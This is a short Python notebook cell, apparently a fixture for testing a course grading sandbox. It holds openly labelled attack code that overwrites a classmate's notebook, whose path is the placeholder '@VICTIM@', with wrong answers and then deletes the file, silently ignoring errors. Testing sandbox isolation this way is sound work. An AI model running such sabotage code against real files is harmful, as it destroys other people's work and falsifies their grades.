# %% exercise=poll_delay
# ruff: noqa  (attack code in a student's notebook: not course code)
# Overwrite a classmate's notebook (graded later) with wrong answers, or delete it.
import json
import os

try:
    with open("@VICTIM@") as f:
        victim = json.load(f)
    for cell in victim["cells"]:
        cell["source"] = "def poll_delay(*args):\n    return -1\n"
    with open("@VICTIM@", "w") as f:
        json.dump(victim, f)
except OSError:
    pass
try:
    os.remove("@VICTIM@")
except OSError:
    pass


def poll_delay(*args):
    return 0


# %% check=poll_delay
check("poll_delay", poll_delay)
